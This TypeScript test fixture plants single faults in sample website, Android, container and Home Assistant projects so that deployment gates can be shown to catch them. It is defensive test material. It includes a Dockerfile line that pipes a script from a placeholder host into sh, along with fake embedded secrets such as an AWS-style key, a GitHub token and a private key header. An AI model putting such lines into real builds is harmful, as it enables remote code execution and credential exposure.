/** Each fault that a gate must catch, planted by itself, with the gate that must say so. */
import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Facts } from '../../src/domain/pipelines/run.ts';
import { type ApkMaker, type ApkSpec, apkMaker } from './apk.ts';
import { BUILD, CONFIGURATION, DOCKERFILE, GRADLEW, HOME, IMAGE, page, SITE } from './deploy-projects.ts';
import type { DeployWorkspace } from './deploy-workspace.ts';

type Files = Readonly<Record<string, string>>;

export interface TwinSet {
  readonly kind: string;
  readonly good: Files;
  readonly pipeline: unknown;
  /** Of what was shipped before. */
  readonly shipped: Facts | null;
  readonly twins: readonly Twin[];
  /** What is not a file of the project. */
  readonly prepare?: (workspace: DeployWorkspace, twin: Twin | null) => void;
}

export interface Twin {
  readonly name: string;
  readonly gate: string;
  readonly files?: Files;
  readonly uncommitted?: Files;
  readonly apk?: ApkSpec;
}

export const twinSets = (cleanup: (remove: () => void) => void): readonly TwinSet[] => [
  website,
  android(apkMaker(cleanup)),
  container,
  homeAssistant,
];

const website: TwinSet = {
  kind: 'website',
  good: SITE,
  shipped: null,
  pipeline: {
    kind: 'website',
    project: 'apps/one',
    build: ['sh', 'build.sh'],
    url: 'http://127.0.0.1:9/',
    deploy: { to: 'git', remote: 'origin', branch: 'pages' },
  },
  twins: [
    {
      name: 'a broken link',
      gate: 'links',
      files: { 'pages/about.html': page('About', '<p><a href="gone.html">x</a></p>') },
    },
    {
      name: 'a missing picture',
      gate: 'links',
      files: { 'pages/about.html': page('About', '<img src="gone.png" alt="x">') },
    },
    {
      name: 'a fragment that is not there',
      gate: 'links',
      files: { 'pages/about.html': page('About', '<p><a href="index.html#no">x</a></p>') },
    },
    {
      name: 'elements wrongly nested',
      gate: 'html',
      files: { 'pages/about.html': page('About', '<p><div></div></p>') },
    },
    {
      name: 'an id twice',
      gate: 'html',
      files: { 'pages/about.html': page('About', '<p id="us">a</p><p id="us">b</p>') },
    },
    {
      name: 'a picture without a text',
      gate: 'accessibility',
      files: { 'pages/about.html': page('About', '<img src="style.css">') },
    },
    {
      name: 'a field without a label',
      gate: 'accessibility',
      files: {
        'pages/about.html': page(
          'About',
          '<form action="./"><input type="text" name="a"><button type="submit">b</button></form>',
        ),
      },
    },
    {
      name: 'a page over its budget',
      gate: 'budget',
      files: { 'pages/style.css': `/* ${'x'.repeat(1_100_000)} */\n` },
    },
    { name: 'something uncommitted', gate: 'source', uncommitted: { 'pages/new.html': page('New', '') } },
    { name: 'a build that fails', gate: 'build', files: { 'build.sh': 'exit 3\n' } },
  ],
};

const android = (apks: ApkMaker): TwinSet => {
  const noise = [...Array(9_000).keys()].map((n) => (n * 7919) % 65_521).join('');
  const spec = (name: string, gate: string, apk: ApkSpec): Twin => ({ name, gate, apk });
  return {
    kind: 'android',
    good: { gradlew: GRADLEW, '.gitignore': 'out/\n' },
    shipped: { versionCode: 5, certificate: apks.certificate, sizeBytes: 9_000 },
    pipeline: {
      kind: 'android',
      project: 'apps/one',
      gradle: ['sh', './gradlew'],
      file: 'out/app.apk',
      manifest: { package: 'org.example.one', minSdk: 21, targetSdk: 33, permissions: ['android.permission.INTERNET'] },
    },
    prepare: (workspace, twin) =>
      copyFileSync(apks.make({ versionCode: 6, ...twin?.apk }), join(workspace.root, 'next.apk')),
    twins: [
      spec('unsigned', 'signature', { sign: false }),
      spec('signed by a stranger', 'signature', { stranger: true }),
      spec('debuggable', 'manifest', { debuggable: true }),
      spec('a permission more', 'manifest', { permissions: ['android.permission.READ_SMS'] }),
      spec('a service for everybody', 'manifest', { exportedService: true }),
      spec('an old target', 'manifest', { targetSdk: 28 }),
      spec('a lower version', 'version', { versionCode: 4 }),
      spec('the same version', 'version', { versionCode: 5 }),
      spec('a planted key', 'leftovers', { assets: { 'config.txt': `key=AKIA${'ABCDEFGHIJKLMNOP'}` } }),
      spec('a private key', 'leftovers', { assets: { 'k.txt': `-----BEGIN ${'RSA'} PRIVATE KEY-----\nx` } }),
      spec('a debug server', 'leftovers', { assets: { 'api.txt': 'http://10.0.2.2:8080/' } }),
      spec('grown', 'size', { assets: { 'noise.txt': noise } }),
      { name: 'a failing test', gate: 'unit-tests', files: { 'broken-test': '' } },
      { name: 'failing lint', gate: 'lint', files: { 'broken-lint': '' } },
    ],
  };
};

const container: TwinSet = {
  kind: 'container',
  good: IMAGE,
  shipped: null,
  pipeline: {
    kind: 'container',
    project: 'apps/one',
    build: ['sh', 'build.sh', '{{release}}'],
    smoke: { healthy: ['/bin/sh', '-c', 'test -e /tmp/ready'], within: '5s', stop: '2s' },
  },
  twins: [
    { name: 'no user', gate: 'dockerfile', files: { Dockerfile: DOCKERFILE.replace('USER 1000\n', '') } },
    {
      name: 'a script of the network',
      gate: 'dockerfile',
      files: { Dockerfile: `${DOCKERFILE}RUN curl https://x.example/i | sh\n` },
    },
    { name: 'a secret in ENV', gate: 'dockerfile', files: { Dockerfile: `${DOCKERFILE}ENV API_TOKEN=abc123\n` } },
    {
      name: 'a base that is not pinned',
      gate: 'pinned',
      files: { Dockerfile: DOCKERFILE.replace('FROM scratch', 'FROM debian:12') },
    },
    {
      name: 'what is not committed',
      gate: 'reproducible',
      files: {
        '.gitignore': 'build/\nlocal/\n',
        'build.sh': BUILD.replace(
          'rootfs/. build/root/',
          'rootfs/. build/root/; cp -r local/. build/root/ 2>/dev/null || true',
        ),
      },
      uncommitted: { 'local/app/only-here': 'x' },
    },
    { name: 'root', gate: 'runtime', files: { user: '0' } },
    {
      name: 'a privileged service',
      gate: 'runtime',
      files: { 'compose.yaml': 'services: {nova: {image: nova, privileged: true}}\n' },
    },
    {
      name: 'a capability more',
      gate: 'runtime',
      files: { 'compose.yaml': 'services: {nova: {image: nova, cap_add: [SYS_ADMIN]}}\n' },
    },
    { name: 'a planted token', gate: 'scan', files: { 'rootfs/app/settings': `token = ghp_${'a1B2'.repeat(9)}\n` } },
    { name: 'an .env file', gate: 'scan', files: { 'rootfs/app/.env': 'A=b\n' } },
    { name: 'it ends by itself', gate: 'smoke', files: { 'rootfs/app/run': 'echo broken; exit 7\n' } },
    {
      name: 'it is never healthy',
      gate: 'smoke',
      files: { 'rootfs/app/run': `trap 'exit 0' TERM\nwhile :; do sleep 1 & wait $!; done\n` },
    },
    {
      name: 'it does not hear SIGTERM',
      gate: 'smoke',
      files: { 'rootfs/app/run': `trap '' TERM\necho ready > /tmp/ready\nwhile :; do sleep 1; done\n` },
    },
  ],
};

const homeAssistant: TwinSet = {
  kind: 'home-assistant',
  good: HOME,
  shipped: null,
  pipeline: {
    kind: 'home-assistant',
    project: 'apps/one',
    url: 'http://127.0.0.1:9',
    config: '/nonexistent/config',
    backups: '/nonexistent/backups',
    entities: ['light.*'],
  },
  twins: [
    { name: 'broken YAML', gate: 'yaml', files: { 'automations.yaml': '- id: "1\n' } },
    {
      name: 'an include of nothing',
      gate: 'yaml',
      files: { 'configuration.yaml': 'automation: !include gone.yaml\n' },
    },
    { name: 'an include of itself', gate: 'yaml', files: { 'configuration.yaml': 'a: !include configuration.yaml\n' } },
    { name: 'a key twice', gate: 'yaml', files: { 'packages/tea.yaml': 'timer:\n  tea: {}\n  tea: {}\n' } },
    { name: 'a secret that nobody named', gate: 'yaml', files: { 'secrets.example.yaml': 'other: ""\n' } },
    {
      name: 'an id twice',
      gate: 'entities',
      files: { 'automations.yaml': HOME['automations.yaml'].replace("id: '2'", "id: '1'") },
    },
    {
      name: 'an entity that is not there',
      gate: 'entities',
      files: { 'automations.yaml': HOME['automations.yaml'].replace('timer.tea', 'timer.coffee') },
    },
    { name: 'secrets committed', gate: 'secrets', files: { 'secrets.yaml': 'rest_password: real\n' } },
    {
      name: 'a password in the open',
      gate: 'secrets',
      files: { 'configuration.yaml': CONFIGURATION.replace('!secret rest_password', 'hunter22') },
    },
  ],
};
